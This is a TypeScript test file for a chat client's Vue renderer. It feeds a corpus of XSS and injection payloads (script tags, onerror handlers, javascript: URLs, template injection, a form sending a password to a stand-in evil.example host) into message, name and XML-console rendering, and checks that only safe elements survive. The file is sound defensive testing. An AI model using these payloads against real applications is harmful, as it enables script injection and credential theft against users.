import { SaxesParser } from 'saxes';
import { describe, expect, it } from 'vitest';
import { createSSRApp, h } from 'vue';
import { renderToString } from 'vue/server-renderer';
import { xmlNodes } from '../../src-renderer/features/console/xml-nodes';
import { MessageText } from '../../src-renderer/text/MessageText';
import { plainName } from '../../src-renderer/text/names';

/** What others send to become more than text: HTML, XHTML-IM, templates, style, entities, links that run. */
const corpus = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<form action=https://evil.example><input name=password></form>',
  '<object data=x></object><embed src=x>',
  '<html xmlns="http://jabber.org/protocol/xhtml-im"><body xmlns="http://www.w3.org/1999/xhtml"><p style="x">y</p></body></html>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#x3C;img src=x onerror=alert(1)&#x3E;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '{{ constructor.constructor("alert(1)")() }}',
  '${alert(1)}',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '</bdi></p></article><img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '" onmouseover="alert(1)',
  '`-alert(1)-`',
  '[x](javascript:alert(1))',
  '![x](https://evil.example/pixel.png)',
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\tscript:alert(1)',
  ' data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///C:/Windows/System32/calc.exe',
  '\\\\evil.example\\share\\x',
  'https://evil.example/"onmouseover="alert(1)',
  "https://evil.example/'><img src=x onerror=alert(1)>",
  'https://evil.example/<script>alert(1)</script>',
  'http://[::1]:80/" autofocus onfocus=alert(1)',
  'mailto:a@b.com?subject="><script>alert(1)</script>',
  'xmpp:a@b.com?message;body=<img src=x onerror=alert(1)>',
  '\u202E<img src=x onerror=alert(1)>\u202C',
  '\u0000<\u0000script>alert(1)</script>',
  '＜img src=x onerror=alert(1)＞',
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '%3Cimg%20src=x%20onerror=alert(1)%3E',
  '@font-face{src:url(https://evil.example)}',
  'expression(alert(1))',
  '[object Object] __proto__ constructor',
];

interface Found {
  readonly name: string;
  readonly attributes: Readonly<Record<string, string>>;
}

/** Every element of a rendered component, its root left out, and the text as a reader sees it. */
const elements = async (render: () => unknown): Promise<{ found: Found[]; text: string }> => {
  const html = await renderToString(createSSRApp({ render: () => h('root', [render() as never]) }));
  const found: Found[] = [];
  let text = '';
  const parser = new SaxesParser();
  parser.on('opentag', (tag) => found.push({ name: tag.name, attributes: tag.attributes }));
  parser.on('text', (part) => (text += part));
  parser.on('error', (error) => {
    throw error;
  });
  // What Vue writes to mark fragments, and what XML cannot hold.
  parser
    .write(
      html
        .replaceAll(/<!--[[\]]?-->/g, '')
        .replaceAll('\u0000', '\uFFFD')
        .replaceAll('&#39;', '&apos;'),
    )
    .close();
  return { found: found.slice(1), text };
};

const allowed = new Set(['bdi', 'a', 'span']);
const attributes = new Set(['class', 'href', 'title', 'dir', 'rel', 'draggable']);

describe('what others write', () => {
  it.each(corpus)('T13 as a message creates no element but links: %s', async (payload) => {
    const { found, text } = await elements(() => h(MessageText, { body: payload }));
    for (const element of found) {
      expect(allowed).toContain(element.name);
      for (const [name, value] of Object.entries(element.attributes)) {
        expect(attributes).toContain(name);
        if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/|mailto:|xmpp:)/i);
      }
    }
    const hosts = found.filter((element) => element.attributes['class'] === 'text-host').length;
    if (hosts === 0) expect(text).toBe(payload.replaceAll('\u0000', '\uFFFD'));
  });

  it.each(corpus)('T13 as a name or status creates no element: %s', async (payload) => {
    const { found } = await elements(() => plainName(payload));
    expect(found).toEqual([]);
  });

  it.each(corpus)('T13 in the XML console creates nothing but coloured text: %s', async (payload) => {
    const { found, text } = await elements(() => xmlNodes(`<message><body>${payload}</body></message>`));
    for (const element of found) {
      expect(element.name).toBe('span');
      expect(Object.keys(element.attributes)).toEqual(['class']);
    }
    expect(text).toContain('message');
  });
});
